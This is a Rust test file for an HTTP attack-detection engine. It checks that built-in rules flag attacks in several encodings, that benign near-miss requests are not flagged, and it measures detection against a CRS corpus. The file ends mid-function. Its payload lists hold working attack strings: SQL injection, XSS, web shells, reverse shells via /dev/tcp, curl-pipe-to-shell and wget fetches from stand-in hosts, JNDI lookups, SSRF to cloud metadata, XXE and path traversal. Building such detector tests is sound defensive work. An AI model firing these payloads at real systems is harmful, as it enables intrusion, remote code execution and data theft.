//! Detection tests: built-in rules per class (attacks that must hit in
//! several encodings and placements, benign near-misses that must not),
//! protocol anomalies, limits, rule loading, a CRS corpus measurement and a
//! no-panic property test.

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::OnceLock;

use super::*;
use crate::capture::Timestamp;
use crate::http::{Anomalies, Anomaly, Headers, Version};
use crate::reassembly::Direction;

/// A request for tests.
pub(crate) fn req(method: &str, uri: &str, headers: &[(&str, &str)], body: &[u8]) -> Request {
    Request {
        ts: Timestamp(0),
        seq: 0,
        dir: Direction::ToServer,
        index: 0,
        method: method.as_bytes().to_vec(),
        uri: uri.as_bytes().to_vec(),
        version: Version::Http11,
        headers: headers.iter().copied().collect(),
        trailers_from: None,
        body: body.to_vec(),
        body_len: body.len() as u64,
        anomalies: Anomalies::default(),
        complete: true,
    }
}

fn detector() -> &'static Detector {
    static D: OnceLock<Detector> = OnceLock::new();
    D.get_or_init(|| Detector::new(&RuleSet::builtin(), DetectLimits::default()))
}

fn hits_of(r: &Request) -> Vec<Hit> {
    let mut stats = DetectStats::default();
    let mut hits = Vec::new();
    detector().inspect(r, &mut stats, &mut hits);
    hits
}

const BROWSER_HEADERS: &[(&str, &str)] = &[
    ("Host", "shop.example.com"),
    (
        "User-Agent",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    ),
    (
        "Accept",
        "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    ),
    ("Accept-Language", "en-GB,en;q=0.9,fr;q=0.8"),
    ("Accept-Encoding", "gzip, deflate, br"),
    ("Referer", "https://shop.example.com/cart?step=2&ref=mail"),
    ("Cookie", "_ga=GA1.2.123456789.1700000000; _gid=GA1.2.987; session=eyJhbGciOiJIUzI1NiJ9.e30.abc; theme=dark"),
    ("Connection", "keep-alive"),
    ("Cache-Control", "max-age=0"),
    ("Sec-Fetch-Mode", "navigate"),
    ("Upgrade-Insecure-Requests", "1"),
];

/// Places an attack string can be put: query (percent-encoded), form body,
/// JSON body, cookie.
fn placements(payload: &str) -> Vec<(String, Request)> {
    let enc = pct(payload);
    vec![
        (
            "query".into(),
            req("GET", &format!("/search?q={enc}"), BROWSER_HEADERS, b""),
        ),
        (
            "double-encoded query".into(),
            req(
                "GET",
                &format!("/search?q={}", pct(&enc)),
                BROWSER_HEADERS,
                b"",
            ),
        ),
        (
            "form".into(),
            req(
                "POST",
                "/login",
                &[("Content-Type", "application/x-www-form-urlencoded")],
                format!("user=bob&comment={enc}").as_bytes(),
            ),
        ),
        (
            "json".into(),
            req(
                "POST",
                "/api/v1/items",
                &[("Content-Type", "application/json")],
                serde_json::json!({"item": {"tags": ["a", payload]}})
                    .to_string()
                    .as_bytes(),
            ),
        ),
        (
            "cookie".into(),
            req("GET", "/", &[("Cookie", &format!("a=b; pref={enc}"))], b""),
        ),
    ]
}

fn pct(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

fn html_entities(s: &str) -> String {
    s.chars().map(|c| format!("&#x{:x};", c as u32)).collect()
}

/// Attacks per class: each must hit with its class in every placement, and
/// with HTML-entity encoding in the query.
const ATTACKS: &[(AttackClass, &[&str])] = &[
    (
        AttackClass::Sqli,
        &[
            "1' UNION SELECT username, password FROM users--",
            "1 INSERT/**/INTO logins(u) VALUES ('x')",
            "x'; SELECT password FROM users",
            "1) AS total FROM orders WHERE id=1",
            "1;CREATE TABLE t(x int)",
            "-1 union/**/all/**/select 1,2,3",
            "admin' OR '1'='1",
            "x\" or \"\"=\"",
            "1 OR 1=1",
            "1 AND 2>1",
            "admin'--",
            "1; DROP TABLE users",
            "1' AND SLEEP(5)#",
            "1;WAITFOR DELAY '0:0:5'--",
            "1' and extractvalue(1,concat(0x7e,version()))--",
            "' or exists(select * from information_schema.tables)--",
            "1 order by 5--",
            "1=(SELECT * FROM users)",
            "1/*!50000union*/select 1",
            "1 and pg_sleep(10)",
        ],
    ),
    (
        AttackClass::Xss,
        &[
            "<script>alert(1)</script>",
            "self[\"alert\"](document[\"cookie\"])",
            "<ScRiPt src=//evil.example/x.js>",
            "<img src=x onerror=alert(document.cookie)>",
            "<svg/onload=confirm(1)>",
            "\"><iframe src=javascript:alert(1)>",
            "javascript:alert(1)",
            "java\tscript:prompt(1)",
            "' onmouseover='alert(1)",
            "<body onload=eval(atob('YWxlcnQoMSk='))>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "</title><script>fetch('//x')</script>",
        ],
    ),
    (
        AttackClass::Rce,
        &[
            "cat /[e]tc/pa[s]swd",
            "<? echo shell_exec('id');",
            "define('x', 'sys' . 'tem');(x)('uname');",
            "${@$b}(12)",
            "for /f %i in ('whoami') do echo %i",
            "x; flock -u / whoami",
            "; cat /etc/passwd",
            "| id",
            "127.0.0.1 && whoami",
            "`uname -a`",
            "$(curl http://evil.example/x.sh | sh)",
            "x;wget${IFS}http://1.2.3.4/a",
            "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "| powershell -enc SQBFAFgA",
            "& cmd.exe /c dir",
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:${lower:r}mi://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:dns://x}",
            "<?php system($_GET['c']); ?>",
            "php://filter/convert.base64-encode/resource=index.php",
            "java.lang.Runtime.getRuntime().exec('id')",
            "new java.lang.ProcessBuilder({'id'}).start()",
            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
            "__import__('os').system('id')",
            "() { :; }; /bin/bash -c 'id'",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
            "require('child_process').exec('id')",
        ],
    ),
    (
        AttackClass::Ptrav,
        &[
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "....//....//etc/hosts",
            "/proc/self/environ",
            "..%2f..%2fetc%2fshadow",
            "file=C:\\Windows\\System32\\drivers\\etc\\hosts",
            "/var/www/../../root/.bash_history",
        ],
    ),
    (
        AttackClass::Ssrf,
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://2852039166/",
            "http://0251.0376.0251.0376/",
            "http://[::ffff:169.254.169.254]/",
            "http://127.0.0.1:8080/admin",
            "gopher://localhost:6379/_INFO",
            "http://[::1]/",
            "http://0x7f000001/",
        ],
    ),
    (
        AttackClass::Ssti,
        &[
            "{{7*7}}",
            "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
            "${7*7}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
            "{% import os %}{{ os.system('id') }}",
        ],
    ),
    (
        AttackClass::Xxe,
        &[
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            "<!ENTITY % remote SYSTEM \"http://evil.example/x.dtd\">",
        ],
    ),
    (
        AttackClass::Crlf,
        &["x\r\nSet-Cookie: admin=1", "/\r\nLocation: http://evil.example"],
    ),
    (AttackClass::Ssi, &["<!--#exec cmd=\"ls\" -->", "<!--#include virtual=\"/etc/passwd\"-->"]),
    (AttackClass::Ldapi, &["*)(uid=*))(|(uid=*", "admin)(|(password=*)"]),
    (
        AttackClass::MailInjection,
        &[
            "me@example.com\r\nBcc: victim@example.org",
            "x\r\nRCPT TO:<victim@example.org>",
            "\r\na001 EXAMINE INBOX",
        ],
    ),
    (AttackClass::Rfi, &["http://203.0.113.5/shell.txt?", "https://evil.example/x.php?"]),
    (
        AttackClass::SessionFixation,
        &[
            "<script>document.cookie=\"sessionid=1234; domain=.example.dom\"</script>",
            "x\r\nSet-Cookie: PHPSESSID=attacker",
        ],
    ),
];

#[test]
fn builtin_rules_are_valid() {
    let mut seen = std::collections::BTreeMap::new();
    let mut total = 0;
    for (name, src) in builtin::FILES {
        let (rules, errors) = rule::parse_source(src, Path::new(name), &mut seen);
        assert!(errors.is_empty(), "{name}: {errors:#?}");
        total += rules.len();
    }
    assert_eq!(RuleSet::builtin().len(), total);
    assert!(total >= 50, "{total}");
    // Rules without literals run on every value: keep them few. The two
    // tokenizer rules (specula-sqli-lex, specula-xss-lex) are among them by
    // design; at most 3 regex rules may join them.
    let always = detector().always_evaluated_rules();
    assert!(always <= 5, "{always} always-evaluated rules");
}

#[test]
fn builtin_folder_matches_embedded() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
    let loaded = RuleSet::load(&dir).map_err(|e| format!("{e:?}"));
    assert_eq!(loaded.map(|s| s.len()), Ok(RuleSet::builtin().len()));
}

#[test]
fn attacks_hit_in_every_placement() {
    let mut failures = Vec::new();
    for (class, payloads) in ATTACKS {
        for p in *payloads {
            let mut cases = placements(p);
            cases.push((
                "html entities".into(),
                req("GET", &format!("/q?x={}", pct(&html_entities(p))), &[], b""),
            ));
            for (place, r) in cases {
                let hits = hits_of(&r);
                if !hits.iter().any(|h| h.class == *class) {
                    failures.push(format!("{} {place}: {p:?} -> {hits:?}", class.as_str()));
                }
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} misses:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn path_and_header_placements() {
    let cases: &[(AttackClass, Request)] = &[
        (AttackClass::Ptrav, req("GET", "/static/..%252f..%252f..%252fetc/passwd", &[], b"")),
        (AttackClass::Ptrav, req("GET", "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/issue", &[], b"")),
        (AttackClass::Ptrav, req("GET", "/download?file=%u002e%u002e%u2215etc", &[], b"")),
        (AttackClass::Sqli, req("GET", "/item/1'%20or%20'1'='1", &[], b"")),
        (AttackClass::Xss, req("GET", "/page/<script>alert(1)</script>", &[], b"")),
        (AttackClass::Rce, req("GET", "/", &[("User-Agent", "${jndi:ldap://x.example/a}")], b"")),
        (AttackClass::Rce, req("GET", "/", &[("X-Api-Version", "${jndi:rmi://x/a}")], b"")),
        (AttackClass::Rce, req("GET", "/cgi-bin/x", &[("Referer", "() { :; }; echo; /bin/id")], b"")),
        (AttackClass::Sqli, req("GET", "/", &[("User-Agent", "x' and sleep(5)-- -")], b"")),
        (AttackClass::Scanner, req("GET", "/", &[("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")], b"")),
        (AttackClass::Scanner, req("GET", "/", &[("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)")], b"")),
        (AttackClass::Scanner, req("GET", "/", &[("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")], b"")),
        (AttackClass::Scanner, req("GET", "/", &[("User-Agent", "Mozilla/5.0 zgrab/0.x")], b"")),
        (AttackClass::Scanner, req("GET", "/", &[("User-Agent", "Fuzz Faster U Fool v2.1.0")], b"")),
        (AttackClass::Scanner, req("GET", "/", &[("User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")], b"")),
        (AttackClass::Nosqli, req("GET", "/login?user=admin&password[$ne]=x", &[], b"")),
        (
            AttackClass::Nosqli,
            req("POST", "/login", &[("Content-Type", "application/json")], br#"{"user":"admin","password":{"$gt":""}}"#),
        ),
        (
            AttackClass::Rce,
            req(
                "POST",
                "/upload",
                &[("Content-Type", "multipart/form-data; boundary=b")],
                b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\n<?php eval($_POST[1]);\r\n--b--\r\n",
            ),
        ),
        (
            AttackClass::Xxe,
            req("POST", "/soap", &[("Content-Type", "text/xml")], b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
        ),
        (AttackClass::Xss, req("GET", r"/?cb=\u003cscript\u003ealert(1)", &[], b"")),
        (AttackClass::Sqli, req("GET", "/?id=1%2520union%2520select%25201", &[], b"")),
        (AttackClass::Sqli, req("GET", "/?id=1+un%00ion+sel%00ect+1", &[], b"")),
    ];
    for (class, r) in cases {
        let hits = hits_of(r);
        assert!(
            hits.iter().any(|h| h.class == *class),
            "{} not found in {:?}: {hits:?}",
            class.as_str(),
            String::from_utf8_lossy(&r.uri)
        );
    }
}

#[test]
fn benign_requests_do_not_hit() {
    let form = |b: &str| {
        req(
            "POST",
            "/submit",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            b.as_bytes(),
        )
    };
    let json = |b: &str| {
        req(
            "POST",
            "/api/orders",
            &[("Content-Type", "application/json")],
            b.as_bytes(),
        )
    };
    let cases = vec![
        req("GET", "/", BROWSER_HEADERS, b""),
        req("GET", "/search?q=select+a+plan&sort=price", BROWSER_HEADERS, b""),
        req("GET", "/search?q=drop+shipping+suppliers", BROWSER_HEADERS, b""),
        req("GET", "/people?name=O%27Brien&city=Dublin", BROWSER_HEADERS, b""),
        req("GET", "/directions?to=union+station&from=grand+central", BROWSER_HEADERS, b""),
        req("GET", "/search?q=and+or+not+operators", BROWSER_HEADERS, b""),
        req("GET", "/search?q=Tom+%26+Jerry%3B+the+movie", BROWSER_HEADERS, b""),
        req("GET", "/search?q=how+do+I+write+a+script+for+my+play", BROWSER_HEADERS, b""),
        req("GET", "/search?q=R%26D+budget+2024", BROWSER_HEADERS, b""),
        req("GET", "/redirect?url=https%3A%2F%2Fwww.example.org%2Fpage%3Fa%3D1", BROWSER_HEADERS, b""),
        req("GET", "/img/logo.png?v=1.2.3", BROWSER_HEADERS, b""),
        req("GET", "/docs/v2/getting-started/index.html#install", BROWSER_HEADERS, b""),
        req("GET", "/api/items?id=42&fields=name,price&page=2&per_page=50", BROWSER_HEADERS, b""),
        req("GET", "/calendar?date=2024-01-05T10:00:00Z&tz=Europe%2FParis", BROWSER_HEADERS, b""),
        req("GET", "/", &[("User-Agent", "curl/8.4.0"), ("Accept", "*/*")], b""),
        req("GET", "/", &[("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1")], b""),
        req("GET", "/", &[("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0")], b""),
        req("GET", "/", &[("If-None-Match", "W/\"5e15153d-120f\""), ("Authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.sig")], b""),
        form("name=Mary+O%27Neil&email=mary%40example.com&message=Please+select+the+blue+one+from+the+catalogue.+Thanks%21"),
        form("comment=I+think+1+%2B+1+%3D+2+and+that%27s+it"),
        form("q=union+jack+flag&category=flags"),
        form("note=Meeting+at+10%3A30%3B+bring+the+slides"),
        form("title=Scripts+and+screenplays&body=Writing+a+good+script+takes+time."),
        form("password=P%40ssw0rd%21%23&remember=on"),
        form("upload=C%3A%5Cfakepath%5Cphoto.jpg&dir=D%3A%5CUsers%5Cname%5CDocuments"),
        form("price=%245+%28incl.+VAT%29&total=%24%7Bamount%7D"),
        form("msg=It+costs+%24amount+%28approx%29+and+%24tax+%28est.%29"),
        form("comment=Don%27t+worry%2C+it%27s+fine.+See+you+at+5+o%27clock"),
        form("email=john.doe%2Bnews%40example.com&subscribe=1"),
        form("bio=I+work+with+C%2B%2B+templates+like+std%3A%3Avector%3Cint%3E+and+Node.js"),
        form("q=how+to+use+%24_GET+in+php&lang=en"),
        form("q=ping+pong+table&q2=find+my+phone&q3=cat+videos&q4=ls+command"),
        form("address=12+Main+St.%2C+Apt+%234%2C+Springfield&phone=%2B1+%28555%29+123-4567"),
        form("query=50%25+off+%7C+free+shipping+%26+returns"),
        json(r#"{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"x","type":"object"}"#),
        json(r##"{"markdown":"# Title\n\nSome *bold* text and a [link](https://example.com/a?b=c).\n\n- item 1\n- item 2"}"##),
        req("GET", "/search?q=union+select+committee+report", BROWSER_HEADERS, b""),
        req("GET", "/wiki/Special:Search?search=%22or%22+operator+in+logic", BROWSER_HEADERS, b""),
        req("GET", "/", &[("Referer", "https://www.google.com/search?q=best+pizza+near+me&oq=best+pizza&aqs=chrome..69i57j0l5.3456j0j7&sourceid=chrome&ie=UTF-8")], b""),
        form("text=He+said+%22hello%22+and+left.+Then%3A+%27bye%27"),
        json(r#"{"order":{"id":123,"items":[{"sku":"A-1","qty":2}],"note":"leave at the door, ring twice"},"coupon":null}"#),
        json(r#"{"query":"select a plan","filters":{"price":{"min":10,"max":20}},"url":"https://example.com/a?b=c"}"#),
        json(r#"{"name":"O'Brien","bio":"Loves union station & drop shipping"}"#),
        req(
            "POST",
            "/upload",
            &[("Content-Type", "multipart/form-data; boundary=----x")],
            b"------x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"holiday photo.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0JFIF\r\n------x--\r\n",
        ),
        req("GET", "/", &[("Cookie", "_ga=GA1.2.123; _fbp=fb.1.1700000000000.123456789; consent=yes%2Cno; cart=%7B%22n%22%3A2%7D")], b""),
        req("GET", "/blog/2024/05/how-to-use-css-grid", BROWSER_HEADERS, b""),
        req("GET", "/wiki/Cross-site_scripting", BROWSER_HEADERS, b""),
        req("GET", "/search?q=onion+rings+recipe", BROWSER_HEADERS, b""),
        req("GET", "/search?q=%3Cb%3Ebold%3C%2Fb%3E", BROWSER_HEADERS, b""),
        req("GET", "/files?path=docs%2Freports%2F2024%2Fq1.pdf", BROWSER_HEADERS, b""),
        req("GET", "/search?q=email+me+at+john%40example.com", BROWSER_HEADERS, b""),
        req("GET", "/search?q=what+is+1%3D1", BROWSER_HEADERS, b""),
    ];
    let mut failures = Vec::new();
    for r in &cases {
        let hits = hits_of(r);
        if !hits.is_empty() {
            failures.push(format!(
                "{} {:?}: {hits:?}",
                String::from_utf8_lossy(&r.uri),
                String::from_utf8_lossy(&r.body)
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "false positives:\n{}",
        failures.join("\n")
    );
}

#[test]
fn hit_fields_location_and_matched() {
    let r = req("GET", "/x?id=1%27%20UNION%20SELECT%201--&b=ok", &[], b"");
    let hits = hits_of(&r);
    let h = hits.iter().find(|h| &*h.rule_id == "sqli-union-select");
    let h = h.map(|h| {
        (
            h.class,
            h.severity,
            h.location.as_str(),
            h.matched.as_slice(),
        )
    });
    assert_eq!(
        h,
        Some((
            AttackClass::Sqli,
            Severity::High,
            "query:id",
            &b"UNION SELECT 1"[..]
        ))
    );
    // One hit per (rule, location), even with repeated arguments.
    let r = req("GET", "/?a=<script>&a=<script>x&b=<script>", &[], b"");
    let n = hits_of(&r)
        .iter()
        .filter(|h| &*h.rule_id == "xss-script-tag" && h.location.starts_with("query:"))
        .count();
    assert_eq!(n, 2);
    // Matched text is bounded.
    let long = format!("/?a=%3Cscript%20{}%3E", "a".repeat(1000));
    for h in hits_of(&req("GET", &long, &[], b"")) {
        assert!(h.matched.len() <= MAX_MATCHED_BYTES);
    }
}

#[test]
fn protocol_anomalies_become_hits() {
    let mut r = req("GET", "/", &[], b"");
    r.anomalies.set(Anomaly::ClAndTe);
    r.anomalies.set(Anomaly::Gap);
    r.anomalies.set(Anomaly::BareLf);
    r.anomalies.set(Anomaly::MissingHost);
    r.anomalies.set(Anomaly::InvalidRequestLine);
    let hits = hits_of(&r);
    let ids: Vec<(&str, Severity, &str)> = hits
        .iter()
        .map(|h| (&*h.rule_id, h.severity, h.location.as_str()))
        .collect();
    assert_eq!(
        ids,
        vec![
            ("protocol-cl_and_te", Severity::High, "request"),
            ("protocol-invalid_request_line", Severity::Medium, "request"),
        ]
    );
    assert!(hits.iter().all(|h| h.class == AttackClass::Protocol));
}

#[test]
fn hit_limit_is_enforced_and_counted() {
    let limits = DetectLimits {
        max_hits_per_request: 2,
        ..DetectLimits::default()
    };
    let d = Detector::new(&RuleSet::builtin(), limits);
    let r = req(
        "GET",
        "/?a=<script>&b=<script>&c=<script>&d=1+union+select+1",
        &[],
        b"",
    );
    let mut stats = DetectStats::default();
    let mut hits = Vec::new();
    d.inspect(&r, &mut stats, &mut hits);
    assert_eq!(hits.len(), 2);
    assert_eq!(stats.hit_limit_hits, 1);
    assert_eq!(stats.requests, 1);
    assert!(stats.points > 0 && stats.regex_evaluations > 0);
}

#[test]
fn decode_depth_limit_is_counted() {
    let limits = DetectLimits {
        max_decode_depth: 1,
        ..DetectLimits::default()
    };
    let d = Detector::new(&RuleSet::builtin(), limits);
    // Triple-encoded '<': the query split decodes once, one layer more is allowed.
    let r = req("GET", "/?a=%25253Cscript%25253E", &[], b"");
    let mut stats = DetectStats::default();
    let mut hits = Vec::new();
    d.inspect(&r, &mut stats, &mut hits);
    assert!(hits.is_empty(), "{hits:?}");
    assert!(stats.decode_depth_hits >= 1);
    // The default depth sees through it.
    assert!(!hits_of(&r).is_empty());
}

/// A rule that looks for `probe` in the `X-Probe` header only.
const PROBE_RULE: &str = r#"
[[rule]]
id = "t-header"
class = "scanner"
severity = "low"
targets = ["header:x-probe"]
pattern = 'probe'
description = "d"
"#;

/// A rule file that must parse.
fn rules_from(src: &str) -> RuleSet {
    match RuleSet::parse(src, Path::new("x.toml")) {
        Ok(s) => s,
        Err(e) => panic!("{e:?}"),
    }
}

#[test]
fn custom_rules_targets_and_scratch() {
    let src = PROBE_RULE.to_string()
        + r#"
[[rule]]
id = "t-method"
class = "protocol"
severity = "low"
targets = ["method"]
pattern = '^(?:TRACE|TRACK)$'
description = "d"
"#;
    let set = rules_from(&src);
    assert_eq!(set.rules().len(), 2);
    let d = Detector::new(&set, DetectLimits::default());
    let mut scratch = Scratch::default();
    let mut stats = DetectStats::default();
    let mut hits = Vec::new();
    let r = req(
        "TRACE",
        "/probe",
        &[("X-Probe", "probe"), ("X-Other", "probe")],
        b"",
    );
    d.inspect_with(&r, &mut scratch, &mut stats, &mut hits);
    let got: Vec<(&str, &str)> = hits
        .iter()
        .map(|h| (&*h.rule_id, h.location.as_str()))
        .collect();
    assert_eq!(
        got,
        vec![("t-method", "method"), ("t-header", "header:X-Probe")]
    );
}

#[test]
fn load_reports_all_errors_of_all_files() {
    let dir = match tempfile::tempdir() {
        Ok(d) => d,
        Err(e) => panic!("{e}"),
    };
    let good = "[[rule]]\nid = \"a\"\nclass = \"xss\"\nseverity = \"low\"\ntargets = [\"query\"]\npattern = 'x'\ndescription = \"d\"\n";
    let bad = good.replace("\"low\"", "\"lo\"").replace("'x'", "'('");
    std::fs::write(dir.path().join("a.toml"), good).ok();
    std::fs::write(dir.path().join("b.toml"), &bad).ok();
    std::fs::write(dir.path().join("ignored.txt"), "junk").ok();
    let errs = match RuleSet::load(dir.path()) {
        Ok(_) => panic!("expected errors"),
        Err(e) => e,
    };
    let shown: Vec<String> = errs
        .iter()
        .map(|e| {
            assert!(e.to_string().contains(&e.message));
            let file = e.path.file_name().map(|f| f.to_string_lossy().into_owned());
            format!(
                "{}:{}:{}: {}",
                file.unwrap_or_default(),
                e.line,
                e.col,
                e.message
            )
        })
        .collect();
    assert_eq!(shown.len(), 3, "{shown:?}");
    assert!(
        shown[0].starts_with("b.toml:2:6: duplicate id `a`"),
        "{shown:?}"
    );
    assert!(
        shown[1].starts_with("b.toml:4:12: unknown severity"),
        "{shown:?}"
    );
    assert!(
        shown[2].starts_with("b.toml:6:11: pattern does not compile"),
        "{shown:?}"
    );
    assert_eq!(
        RuleSet::load(&dir.path().join("a.toml"))
            .map(|s| s.len())
            .ok(),
        Some(1)
    );
    assert!(RuleSet::load(&dir.path().join("missing.toml")).is_err());
}

#[test]
fn detector_is_send_sync() {
    fn check<T: Send + Sync>() {}
    check::<Detector>();
    check::<RuleSet>();
}

// ---- CRS corpus measurement ------------------------------------------------

/// Raw request bytes → `Request` (test-only; the real parser is `http`).
fn parse_raw(raw: &[u8]) -> Option<Request> {
    let head_end = memchr::memmem::find(raw, b"\r\n\r\n")
        .map(|i| (i, i + 4))
        .or_else(|| memchr::memmem::find(raw, b"\n\n").map(|i| (i, i + 2)))?;
    let head = raw.get(..head_end.0)?;
    let rest = raw.get(head_end.1..)?;
    let mut lines = head
        .split(|&b| b == b'\n')
        .map(|l| l.strip_suffix(b"\r").unwrap_or(l));
    let line = lines.next()?;
    let mut hs = [httparse::EMPTY_HEADER; 128];
    let mut parsed = httparse::Request::new(&mut hs);
    let (method, uri, headers): (Vec<u8>, Vec<u8>, Headers) = match parsed.parse(raw) {
        Ok(httparse::Status::Complete(_)) => (
            parsed.method?.as_bytes().to_vec(),
            parsed.path?.as_bytes().to_vec(),
            parsed.headers.iter().map(|h| (h.name, h.value)).collect(),
        ),
        // httparse is strict (non-token methods, odd targets): fall back
        // to splitting the lines ourselves.
        _ => {
            let sp1 = memchr::memchr(b' ', line)?;
            let sp2 = memchr::memrchr(b' ', line)?;
            let method = line.get(..sp1)?.to_vec();
            let uri = if sp2 > sp1 {
                line.get(sp1 + 1..sp2)?
            } else {
                line.get(sp1 + 1..)?
            };
            let headers = lines
                .filter_map(|l| {
                    let c = memchr::memchr(b':', l)?;
                    Some((l.get(..c)?.trim_ascii(), l.get(c + 1..)?.trim_ascii()))
                })
                .collect();
            (method, uri.to_vec(), headers)
        }
    };
    let find = |n: &str| {
        headers
            .iter()
            .find(|h| h.name.eq_ignore_ascii_case(n.as_bytes()))
            .map(|h| h.value.to_vec())
    };
    let body = if find("transfer-encoding")
        .is_some_and(|v| v.to_ascii_lowercase().ends_with(b"chunked"))
    {
        dechunk(rest)
    } else if let Some(cl) = find("content-length")
        .and_then(|v| std::str::from_utf8(&v).ok()?.trim().parse::<usize>().ok())
    {
        rest.get(..cl.min(rest.len()))?.to_vec()
    } else {
        rest.to_vec()
    };
    let mut r = req("GET", "/", &[], &body);
    r.method = method;
    r.uri = uri;
    r.headers = headers;
    Some(r)
}

fn dechunk(mut data: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    while let Some(eol) = memchr::memmem::find(data, b"\r\n") {
        let size_line = data.get(..eol).unwrap_or_default();
        let size_hex = size_line.split(|&b| b == b';').next().unwrap_or_default();
        let Some(size) = std::str::from_utf8(size_hex)
            .ok()
            .and_then(|s| usize::from_str_radix(s.trim(), 16).ok())
        else {
            break;
        };
        if size == 0 {
            break;
        }
        let Some(chunk) = data.get(eol + 2..eol + 2 + size) else {
            break;
        };
        out.extend_from_slice(chunk);
        data = data.get(eol + 2 + size + 2..).unwrap_or_default();
    }
    out
}

/// Standard base64 (test-only; avoids a dependency).
fn b64(s: &str) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(s.len() / 4 * 3);
    let (mut acc, mut bits) = (0u32, 0u32);
    for c in s.bytes() {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            b'=' => break,
            _ => return None,
        };
        acc = (acc << 6) | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    Some(out)
}

#[test]
fn crs_corpus_measurement() {
    let path = Path::new("/work/shared/corpus/crs/tests.jsonl");
    let Ok(text) = std::fs::read_to_string(path) else {
        eprintln!(
            "CRS corpus not present at {}; skipping measurement",
            path.display()
        );
        return;
    };
    // category -> (detect total, detected, clean total, clean flagged)
    let mut by_cat: BTreeMap<String, [u32; 4]> = BTreeMap::new();
    let mut stats = DetectStats::default();
    let mut hits = Vec::new();
    let mut rule_counts: BTreeMap<String, u32> = BTreeMap::new();
    // Set SPECULA_CRS_DUMP=FILE to get one line per case (id, expect, category, rules).
    let started = std::time::Instant::now();
    let mut dump = std::env::var_os("SPECULA_CRS_DUMP").and_then(|p| std::fs::File::create(p).ok());
    for line in text.lines() {
        let Ok(v) = serde_json::from_str::<serde_json::Value>(line) else {
            continue;
        };
        if v["phase"] != "request" {
            continue;
        }
        let Some(raw) = v["raw"].as_str().and_then(b64) else {
            continue;
        };
        let Some(r) = parse_raw(&raw) else { continue };
        hits.clear();
        detector().inspect(&r, &mut stats, &mut hits);
        let cat = v["category"].as_str().unwrap_or("?").to_string();
        let e = by_cat.entry(cat).or_default();
        let hit = !hits.is_empty();
        if let Some(f) = dump.as_mut() {
            use std::io::Write as _;
            let ids: Vec<&str> = hits.iter().map(|h| &*h.rule_id).collect();
            let _ = writeln!(
                f,
                "{}\t{}\t{}\t{}",
                v["id"].as_str().unwrap_or("?"),
                v["expect"].as_str().unwrap_or("?"),
                v["category"].as_str().unwrap_or("?"),
                ids.join(",")
            );
        }
        if v["expect"] == "detect" {
            e[0] += 1;
            e[1] += u32::from(hit);
        } else {
            e[2] += 1;
            e[3] += u32::from(hit);
            for h in &hits {
                *rule_counts.entry(h.rule_id.to_string()).or_default() += 1;
            }
        }
    }
    let mut tot = [0u32; 4];
    eprintln!(
        "{:<22} {:>8} {:>9} {:>8} {:>9}",
        "category", "detect", "detected", "clean", "flagged"
    );
    for (cat, c) in &by_cat {
        eprintln!(
            "{cat:<22} {:>8} {:>8.1}% {:>8} {:>8.1}%",
            c[0],
            100.0 * f64::from(c[1]) / f64::from(c[0].max(1)),
            c[2],
            100.0 * f64::from(c[3]) / f64::from(c[2].max(1))
        );
        for i in 0..4 {
            tot[i] += c[i];
        }
    }
    let det = f64::from(tot[1]) / f64::from(tot[0].max(1));
    eprintln!(
        "ALL detect {} -> {:.1}%   clean {} -> flagged {:.1}%",
        tot[0],
        100.0 * det,
        tot[2],
